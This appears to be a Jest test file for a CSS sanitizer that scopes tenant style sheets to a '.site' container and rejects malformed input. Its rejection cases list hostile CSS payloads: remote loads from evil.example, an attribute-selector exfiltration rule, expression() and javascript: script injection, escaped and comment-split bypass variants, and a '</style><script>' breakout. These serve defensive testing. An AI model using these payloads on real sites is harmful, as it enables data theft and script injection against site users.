import { CustomCssError, sanitizeCss } from '@/services/sites/render';

describe('a tenant’s style sheet', () => {
  test.each([
    ['h1{color:red}', '.site h1{color:red}'],
    ['h1,.a > b{color:red}', '.site h1,.site .a > b{color:red}'],
    [':root{--x:1px}', '.site{--x:1px}'],
    ['body{margin:0}', '.site{margin:0}'],
    ['html body .a{margin:0}', '.site .a{margin:0}'],
    ['.site .a{margin:0}', '.site .a{margin:0}'],
    ['body.dark .a{margin:0}', '.site.dark .a{margin:0}'],
    ['.sitemap{margin:0}', '.site .sitemap{margin:0}'],
    ['@media (width < 600px){a{color:red}}', '@media (width < 600px){.site a{color:red}}'],
    ['@keyframes x{from{opacity:0}to{opacity:1}}', '@keyframes x{from{opacity:0}to{opacity:1}}'],
    ['.a{&:hover{color:red}}', '.site .a{&:hover{color:red}}'],
    ['.a{background:url("/files/a.png")}', '.site .a{background:url("/files/a.png")}'],
    [
      '.a{background:url(data:image/png;base64,iVBO)}',
      '.site .a{background:url(data:image/png;base64,iVBO)}',
    ],
    ['.header{position:fixed}', '.site .header{position:fixed}'],
    ['.a::before{content:"\\201C"}', '.site .a::before{content:"\\201C"}'],
  ])('%s becomes %s', (css, clean) => {
    expect(sanitizeCss(css)).toEqual({ css: clean, dropped: [] });
  });

  test.each([
    '@import "https://evil.example/x.css";',
    '@im\\port "https://evil.example/x.css";',
    '@charset "utf-7";',
    '@namespace svg url(http://www.w3.org/2000/svg);',
    '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
    '@scope (html){a{color:red}}',
    '@property --x{syntax:"*";inherits:false;initial-value:url(https://evil.example)}',
    'a{background:url(https://evil.example/x.png)}',
    'a{background:url(//evil.example/x.png)}',
    'a{background:url("/files/../api/auth/logout")}',
    'a{background:url(/files//evil.example)}',
    'a{background:url(/api/auth/logout)}',
    'a{background:\\75rl(https://evil.example)}',
    'a{background:u\\72 l(https://evil.example)}',
    'a{background:ur/**/l(https://evil.example)}',
    'a{background:url( "https://evil.example" )}',
    'a{background:url(data:text/html,<script>alert(1)</script>)}',
    'a{background:image-set("https://evil.example/x.png" 1x)}',
    'a{background:-webkit-image-set(url(https://evil.example/x.png) 1x)}',
    'a{--x:url(https://evil.example);background:var(--x)}',
    'a{width:expression(alert(1))}',
    'a{width:exp/**/ression(alert(1))}',
    'a{width:e\\78pression(alert(1))}',
    'a{behavior:url(/files/x.htc)}',
    'a{be\\000068avior:url(/files/x.htc)}',
    'a{-moz-binding:url(/files/x.xml#y)}',
    'a{background:url(javascript:alert(1))}',
    'a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="/files/x")}',
    'input[value^="a"]{background:url(https://evil.example/a)}',
    '@media screen{a{background:url(https://evil.example)}}',
    '@supports (background:url(https://evil.example)){a{color:red}}',
    '~ .x{color:red}',
    '+ .x{color:red}',
    ':not(&){color:red}',
    '.a{html:not(&){color:red}}',
    'color:red;',
  ])('%s loses what it must not hold, and says so', (css) => {
    const clean = sanitizeCss(css);
    expect(clean.dropped).not.toEqual([]);
    expect(clean.css).not.toMatch(
      /evil|expression|behavior|binding|@import|progid|javascript|logout|text\/html/i,
    );
  });

  test('cannot close its element', () => {
    const { css } = sanitizeCss(
      'a::before{content:"</style><script>alert(1)</script>"} /* </style> */ [title="<!--"]{color:red}',
    );
    expect(css).not.toMatch(/<[/!]/);
    expect(css).toContain('content:"\\3c /style>');
  });

  test.each([
    ['a{color:red', /Line 1/],
    ['a{color:red}}', /Line 1/],
    ['a{content:"x}', /Line 1/],
    ['x'.repeat(20_001), /20000 characters/],
    ['a{'.repeat(500), /nest at most/],
    ['a{}'.repeat(2001), /too many rules/],
  ])('%.20s is refused with a reason', (css, reason) => {
    expect(() => sanitizeCss(css)).toThrow(CustomCssError);
    expect(() => sanitizeCss(css)).toThrow(reason);
  });
});
